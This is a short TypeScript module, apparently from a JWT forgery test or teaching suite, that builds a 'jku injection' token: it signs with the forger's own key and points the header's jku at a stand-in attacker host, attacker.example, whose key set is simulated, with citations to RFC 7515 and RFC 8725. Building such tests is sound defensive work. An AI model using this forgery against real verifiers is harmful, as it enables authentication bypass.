/** The address of the forger's own JWK Set in the header. Its server is simulated. */
import { rfc } from '#sources/sources';
import type { Forgery } from '../forgery';
import { sign, withParameters } from '../header';

const ADDRESS = 'https://attacker.example/jwks.json';
const KID = 'forged';

export default {
  label: 'jku injection',
  order: 7,
  says: 'The forger signs with a key of their own, and the header names the forger\'s key server as "jku".',
  sources: [rfc(7515, '4.1.2'), rfc(8725, '3.10')],
  forge: async ({ header, payload, own: { privateKey, publicJwk } }) => {
    const forged = withParameters(header, { alg: 'ES256', kid: KID, jku: ADDRESS });
    const set = JSON.stringify({ keys: [{ ...publicJwk, kid: KID }] });
    return [
      {
        compact: await sign(forged, payload, 'ES256', privateKey),
        web: new Map([[ADDRESS, set]]),
      },
    ];
  },
} satisfies Forgery;
